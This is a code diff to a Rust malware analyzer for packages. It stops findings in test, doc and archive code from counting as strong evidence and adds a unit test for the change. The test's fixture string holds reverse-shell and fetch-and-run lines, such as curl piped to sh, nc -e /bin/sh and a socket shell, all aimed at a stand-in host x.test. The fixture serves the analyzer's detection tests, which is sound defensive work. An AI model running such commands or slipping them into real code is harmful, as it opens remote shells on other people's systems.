@@ -112,6 +112,9 @@ pub struct Analyzer {
 const TEST_FACTOR: f64 = 0.25;
 /// Factor of the top level of modules nobody is known to import.
 const MODULE_TOP_FACTOR: f64 = 0.9;
+/// A weight under this share of its severity's weight comes from discounted code
+/// (tests, docs, examples, carried archives: factors of at most a quarter).
+const DISCOUNTED_BELOW: f64 = 0.3;
 /// Factor of code inside an archive within the package (`pkg/x.whl!/mod.py`).
 const NESTED_FACTOR: f64 = 0.25;
 /// Factor of function bodies not reachable from any top level.
@@ -490,10 +493,16 @@ impl Analyzer {
         // (Folded from +0.0: an empty f64 sum is -0.0, which prints as "-0.0".)
         let mut score: f64 = findings.iter().map(|(_, w)| *w).fold(0.0, |a, w| a + w);
         let mut strongest = findings.iter().map(|(_, w)| *w).fold(0.0, f64::max);
-        // Several distinct high-severity behaviours also make strong evidence.
+        // Several distinct high-severity behaviours also make strong evidence — not
+        // when discounted as code nothing installs or imports (tests, docs, carried
+        // archives): a test suite names many behaviours without doing any of them.
         let high: Vec<&Finding> = findings
             .iter()
-            .filter(|(f, w)| *w > 0.0 && f.severity >= Severity::High)
+            .filter(|(f, w)| {
+                *w > 0.0
+                    && f.severity >= Severity::High
+                    && *w >= severity_weight(f.severity) * DISCOUNTED_BELOW
+            })
             .map(|(f, _)| f)
             .collect();
         let high_rules: HashSet<&str> = high.iter().map(|f| f.rule.as_str()).collect();
@@ -944,6 +953,22 @@ mod tests {
             assert_eq!(hooked.0, Some(Stage::Import));
             assert_ne!(alone.1, hooked.1, "{pth}");
         }
+    }
+
+    #[test]
+    fn test_code_adds_to_the_score_but_is_never_the_strong_evidence() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let body = "import os, base64, socket, subprocess\n\
+                    os.system('curl http://x.test/a | sh')\n\
+                    exec(base64.b64decode('cHJpbnQoMSk='))\n\
+                    s = socket.socket(); s.connect(('x.test', 4444))\n\
+                    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n\
+                    os.system('nc -e /bin/sh x.test 4444')\n";
+        let at = |path: &str| a.analyze(&[pf(path, body)], &[]);
+        assert_eq!(at("p-1/p/run.py").verdict, Verdict::Malicious);
+        let t = at("p-1/tests/test_run.py");
+        assert!(t.score > 0.0);
+        assert_ne!(t.verdict, Verdict::Malicious, "{t:?}");
     }
 
     #[test]
